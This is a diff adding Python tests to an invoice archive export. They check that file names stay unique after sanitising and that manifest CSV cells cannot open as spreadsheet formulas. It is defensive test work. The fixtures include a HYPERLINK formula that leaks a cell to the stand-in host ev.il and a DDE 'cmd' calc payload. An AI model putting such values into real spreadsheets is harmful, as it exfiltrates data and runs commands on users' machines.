@@ -85,6 +85,70 @@ def test_zip_export_streams_every_file_and_a_manifest(client, registered_account
         assert manifest[0]["buyer_siret"] == "13001533200013"
 
 
+def _zip_of(client, period):
+    data = b"".join(client.get("/finance/archive.zip", period).streaming_content)
+    return zipfile.ZipFile(io.BytesIO(data))
+
+
+def test_numbers_made_safe_alike_keep_one_file_each_named_by_the_manifest(
+        client, registered_account):
+    """`+1+2`, `_1/2` and `_1_2` all become `_1_2` once made safe: the invoice's id beside it
+    keeps three files, and each manifest row names its own."""
+    invoices = [InvoiceFactory(account=registered_account, number=number,
+                               issue_date=datetime.date(2026, 3, 1))
+                for number in ("+1+2", "_1/2", "_1_2")]
+    for invoice in invoices:
+        fake_document(invoice, content=f"<Invoice><ID>{invoice.pk}</ID></Invoice>".encode())
+        fake_document(invoice, content=f"<Invoice>{invoice.pk} round 2</Invoice>".encode(),
+                      submission_round=2)
+    client.force_login(user_with(roles.FINANCE, registered_account))
+    with _zip_of(client, {"date_from": "2026-03-01", "date_to": "2026-03-31"}) as z:
+        names = z.namelist()
+        assert len(names) == len(set(names)) == 1 + 6
+        rows = list(csv.DictReader(io.StringIO(z.read("manifest.csv").decode())))
+        for row in rows:
+            file = archive.csv_text_value(row["file"])
+            assert f"-id{row['invoice_id']}" in file
+            assert hashlib.sha256(z.read(file)).hexdigest() == row["sha256"]
+        assert sorted(archive.csv_text_value(row["number"]) for row in rows) == sorted(
+            [i.number for i in invoices] * 2)
+
+
+HOSTILE = '=HYPERLINK("http://ev.il/"&B2,"ok")'
+
+
+def test_no_cell_of_the_manifest_opens_as_a_formula_and_every_value_round_trips(
+        client, registered_account):
+    from directory.models import Buyer
+
+    invoice = InvoiceFactory(account=registered_account, number="+1+2", po_number=HOSTILE,
+                             issue_date=datetime.date(2026, 3, 1))
+    Buyer.objects.filter(pk=invoice.buyer_id).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    others = [InvoiceFactory(account=registered_account, number=number,
+                             issue_date=datetime.date(2026, 3, 2), po_number=po)
+              for number, po in (("-3", "\t=1"), ("'quoted", "\r=2"), ("F-PLAIN", "PO 12"))]
+    for i in [invoice, *others]:
+        fake_document(i)
+    client.force_login(user_with(roles.FINANCE, registered_account))
+    with _zip_of(client, {"date_from": "2026-03-01", "date_to": "2026-03-31"}) as z:
+        text = z.read("manifest.csv").decode()
+    rows = list(csv.reader(io.StringIO(text)))
+    header, body = rows[0], rows[1:]
+    numeric = {"invoice_id", "subtotal", "tax_amount", "total", "submission_round"}
+    for row in body:
+        for column, cell in zip(header, row, strict=True):
+            if column not in numeric:
+                assert not cell.startswith(archive.FORMULA_STARTS), (column, cell)
+    by_number = {archive.csv_text_value(r[header.index("number")]): dict(zip(header, r, strict=True))
+                 for r in body}
+    assert set(by_number) == {"+1+2", "-3", "'quoted", "F-PLAIN"}
+    assert archive.csv_text_value(by_number["+1+2"]["po_number"]) == HOSTILE
+    assert archive.csv_text_value(by_number["+1+2"]["buyer_name"]) == "@SUM(1+1)*cmd|' /C calc'!A0"
+    assert archive.csv_text_value(by_number["-3"]["po_number"]) == "\t=1"
+    assert archive.csv_text_value(by_number["'quoted"]["po_number"]) == "\r=2"
+    assert by_number["F-PLAIN"]["po_number"] == "PO 12"  # plain text is left as it is
+
+
 def fake_pdf(invoice, content=b"%PDF-1.7 the invoice", submission_round=1):
     return InvoicePdf.objects.create(invoice=invoice, submission_round=submission_round,
                                      content=content, size=len(content),
@@ -113,7 +177,7 @@ def test_zip_export_with_pdfs_lists_both_files_and_their_hashes(client, register
         rows = {row["number"]: row for row in csv.DictReader(io.StringIO(z.read("manifest.csv").decode()))}
         assert len(z.namelist()) == 1 + 2 + 1
         row = rows[with_pdf.number]
-        assert row["pdf_file"] == archive.file_name(with_pdf.number, 1, ".pdf")
+        assert row["pdf_file"] == archive.zip_name(with_pdf.number, with_pdf.pk, 1, ".pdf")
         assert row["pdf_sha256"] == pdf.sha256 == hashlib.sha256(z.read(row["pdf_file"])).hexdigest()
         assert hashlib.sha256(z.read(row["file"])).hexdigest() == row["sha256"]
         assert rows[without_pdf.number]["pdf_file"] == rows[without_pdf.number]["pdf_sha256"] == ""
